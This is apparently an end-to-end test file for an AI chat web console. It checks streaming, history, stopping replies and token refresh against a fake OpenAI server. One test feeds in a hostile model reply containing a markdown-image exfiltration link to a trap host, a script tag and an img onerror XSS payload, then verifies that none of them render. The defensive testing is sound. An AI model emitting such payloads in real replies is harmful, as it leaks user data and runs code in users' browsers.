import type { Browser, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { splitIntoTokens } from '../fakes/fake-http-server.js';
import { startFakeOpenAIServer, type FakeOpenAIServer } from '../fakes/fake-openai-server.js';
import { createAdministrator, signIn, signOut, waitUntilSignedIn } from './support/auth-screens.js';
import {
  describeInBrowser,
  launchChromium,
  openBrowserSession,
  saveScreenshot,
  type BrowserSession,
} from './support/browser.js';
import {
  createAgentInConsole,
  openArea,
  replies,
  sampleReplyGrowth,
  sendMessage,
  sentMessages,
  startChat,
  waitForFinishedReply,
} from './support/console-screens.js';
import { startE2eServer, type E2eServer } from './support/e2e-server.js';
import { startRequestTrap, type RequestTrap } from './support/request-trap.js';

const admin = { email: 'olga@example.test', password: 'a long admin password' };
const streamedTokens = splitIntoTokens('Paris is the capital of France, and it has been for a very long time.');
const streamedReply = streamedTokens.join('');
// Slow enough to be seen growing on two busy cores, short enough to keep the file fast.
const tokenDelayMs = 120;

describeInBrowser('web console on an OpenAI model (the fake OpenAI server)', () => {
  let fake: FakeOpenAIServer;
  let trap: RequestTrap;
  let server: E2eServer;
  let browser: Browser;
  let session: BrowserSession;
  /** Every request the browser made to the trap's host, whatever the page or the outcome. */
  const trapRequestsSeenByBrowser: string[] = [];

  beforeAll(async () => {
    [fake, trap] = await Promise.all([
      startFakeOpenAIServer({ replyTokens: streamedTokens, tokenDelayMs }),
      startRequestTrap(),
    ]);
    [server, browser] = await Promise.all([
      startE2eServer({ OPENAI_API_KEY: 'sk-e2e-test', OPENAI_BASE_URL: fake.baseUrl }),
      launchChromium(),
    ]);
    session = await openBrowserSession(browser, server.baseUrl);
    session.context.on('request', (request) => {
      if (new URL(request.url()).host === trap.host) trapRequestsSeenByBrowser.push(request.url());
    });
  });
  afterAll(async () => {
    await session?.close();
    await browser?.close();
    await server?.close();
    await Promise.all([fake?.close(), trap?.close()]);
  });

  it('creates the administrator on first run and an agent on openai:gpt-4o-mini', async () => {
    const { page } = session;
    await page.goto('/');
    await createAdministrator(page, admin);
    await createAgentInConsole(page, {
      name: 'Geographer',
      personality: 'You know maps.',
      model: 'openai:gpt-4o-mini',
    });
  });

  it('streams the reply into the page token by token', async () => {
    const { page } = session;
    await startChat(page, 'Geographer');
    await sendMessage(page, 'What is the capital of France?');
    let hasScreenshot = false;
    const samples = await sampleReplyGrowth(page, 0, streamedTokens, {
      onSample: async (shownTokens) => {
        if (hasScreenshot || shownTokens < streamedTokens.length / 2) return;
        hasScreenshot = true;
        await saveScreenshot(page, 'chat-streaming-desktop-light');
      },
    });
    const partial = new Set(samples.filter((shown) => shown > 0 && shown < streamedTokens.length));
    expect(partial.size, `tokens on screen per sample: ${samples.join(',')}`).toBeGreaterThan(1);
    expect(samples).toEqual([...samples].sort((a, b) => a - b));
    await saveScreenshot(page, 'chat-streamed-reply-desktop-light');

    const completion = fake.requests.find((request) => request.path === '/v1/chat/completions');
    expect(completion?.body).toMatchObject({ model: 'gpt-4o-mini', stream: true });
  });

  it('shows the history after a reload, and after signing out and back in', async () => {
    const { page } = session;
    await page.reload();
    await waitUntilSignedIn(page);
    await waitForFinishedReply(page, 0, streamedReply);
    await expect(sentMessages(page).allTextContents()).resolves.toEqual(['What is the capital of France?']);

    const conversationUrl = page.url();
    await signOut(page);
    await signIn(page, admin);
    await page.goto(conversationUrl);
    await waitForFinishedReply(page, 0, streamedReply);
    await expect(replies(page).count()).resolves.toBe(1);
  });

  it('renders neither the remote image nor the script of a hostile reply', async () => {
    const { page } = session;
    const hostileReply = [
      'Here is the chart you asked for:',
      '',
      `![leak](${trap.url}/leak?q=secret)`,
      '',
      '<script>window.__pwned=1</script>',
      '',
      `<img src="${trap.url}/raw-img?q=secret" onerror="window.__pwned=2">`,
      '',
      'End of the chart.',
    ].join('\n');
    fake.respondWith({ replyTokens: splitIntoTokens(hostileReply) });

    await openArea(page, 'Chats');
    await startChat(page, 'Geographer');
    await sendMessage(page, 'Show me the chart');
    const reply = await waitForFinishedReply(page, 0, 'End of the chart.');
    await saveScreenshot(page, 'chat-hostile-reply-desktop-light');

    const expectNothingRendered = async () => {
      await expect(page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).resolves.toBeUndefined();
      await expect(reply.getByRole('img').count()).resolves.toBe(0);
      await expect(reply.locator('script, img, iframe').count()).resolves.toBe(0);
      expect(trapRequestsSeenByBrowser).toEqual([]);
      expect(trap.requests).toEqual([]);
    };
    await expectNothingRendered();
    // The image is never loaded in the page: it is a link naming where it would come from, for a tab of its own.
    const openImage = reply.getByRole('link', { name: `Open image “leak” from ${trap.host} in a new tab` });
    await openImage.waitFor();
    await expect(openImage.getAttribute('rel')).resolves.toBe('noopener noreferrer');
    await expect(openImage.getAttribute('target')).resolves.toBe('_blank');

    // History is rendered from the stored text, not the stream: it must be just as inert.
    await page.reload();
    await waitUntilSignedIn(page);
    await waitForFinishedReply(page, 0, 'End of the chart.');
    await expectNothingRendered();

    // The trap works: opening the link is the one way the image is fetched, in another tab, without a referrer.
    const [imageTab] = await Promise.all([page.context().waitForEvent('page'), openImage.click()]);
    // The new tab may also ask the trap for its icon (/favicon.ico): only the image's requests count.
    const imageRequests = () => trap.requests.filter((request) => request.path !== '/favicon.ico');
    await expect.poll(() => imageRequests().length, { timeout: 5000 }).toBe(1);
    expect(imageRequests()[0]).toMatchObject({ path: '/leak', query: { q: 'secret' } });
    expect(imageRequests()[0]?.headers.referer).toBeUndefined();
    expect(trapRequestsSeenByBrowser.filter((url) => !url.endsWith('/favicon.ico'))).toEqual([
      `${trap.url}/leak?q=secret`,
    ]);
    await imageTab.close();
    await expect(page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).resolves.toBeUndefined();
  });

  it('stops a reply with Stop: the model call ends, and what was written stays, marked as stopped', async () => {
    const { page } = session;
    // Five tokens, then silence without closing: only a stop ends this reply before the stall bound.
    fake.respondWith({ replyTokens: streamedTokens, tokenDelayMs: 20, stallAfterTokens: 5 });
    const written = streamedTokens.slice(0, 5).join('');
    await startChat(page, 'Geographer');
    await sendMessage(page, 'Tell me everything about Paris');
    await replies(page).nth(0).filter({ hasText: written.trim() }).waitFor();
    expect(fake.openExchangeCount()).toBe(1);

    await page.getByRole('button', { name: 'Stop' }).click();

    const reply = await waitForFinishedReply(page, 0, 'Stopped');
    await expect(reply.textContent()).resolves.toContain(written.trim());
    await expect.poll(() => fake.openExchangeCount(), { timeout: 5000 }).toBe(0);
    await page.getByRole('button', { name: 'Send' }).waitFor();
    await saveScreenshot(page, 'chat-stopped-reply-desktop-light');
    // Stored as it was shown: the reload reads the same words and the same mark.
    await page.reload();
    await waitUntilSignedIn(page);
    const stored = await waitForFinishedReply(page, 0, 'Stopped');
    await expect(stored.textContent()).resolves.toContain(written.trim());
    await expect(stored.textContent()).resolves.not.toContain(streamedTokens[5]!.trim());
  });

  it('refreshes an expired access token once and carries on', async () => {
    const { page, context } = session;
    // Tokens last at least 30 s, too long to wait for: from the next API call on, the token in use is
    // treated as expired (401), the way the server answers one past its lifetime.
    let expiredAuthorization: string | undefined;
    await context.route('**/v1/**', async (route) => {
      const authorization = route.request().headers()['authorization'];
      if (authorization) expiredAuthorization ??= authorization;
      if (authorization === undefined || authorization !== expiredAuthorization) return route.continue();
      return route.fulfill({
        status: 401,
        contentType: 'application/problem+json',
        body: JSON.stringify({ type: 'about:blank', title: 'Unauthorized', status: 401, code: 'unauthenticated' }),
      });
    });
    // Every request the page has in flight with the expired token is refused (the agents list, and the
    // chat list when the sidebar reloads at that moment): each is logged by the browser, then retried.
    session.expectConsoleErrors(/status of 401 .*\/v1\//);
    const refreshes: string[] = [];
    const countRefresh = (request: Request) => {
      if (request.method() === 'POST' && new URL(request.url()).pathname === '/v1/auth/refresh') {
        refreshes.push(request.url());
      }
    };
    context.on('request', countRefresh);
    try {
      await openArea(page, 'Agents');
      await page.getByRole('rowheader', { name: 'Geographer' }).waitFor();
      expect(expiredAuthorization).toBeDefined();
      expect(refreshes).toHaveLength(1);
      await openArea(page, 'Chats');
      await page.getByRole('list', { name: 'Your chats' }).getByRole('link').first().waitFor();
      expect(refreshes).toHaveLength(1);
    } finally {
      context.off('request', countRefresh);
      await context.unrouteAll();
    }
  });

  it('logs no console errors along the way', () => {
    expect(session.consoleProblems).toEqual([]);
  });
});
